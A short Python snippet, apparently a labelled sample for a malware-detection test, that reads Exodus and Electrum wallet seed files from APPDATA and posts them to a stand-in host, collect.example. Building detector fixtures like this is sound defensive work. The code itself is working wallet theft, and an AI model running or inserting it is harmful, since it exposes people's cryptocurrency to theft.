import os
import requests

base = os.environ["APPDATA"]
for name in ["Exodus/exodus.wallet/seed.seco", "Electrum/wallets/default_wallet"]:
    path = os.path.join(base, name)
    requests.post("https://collect.example/w", files={"f": open(path, "rb")}) # expect: data-exfiltration/wallet
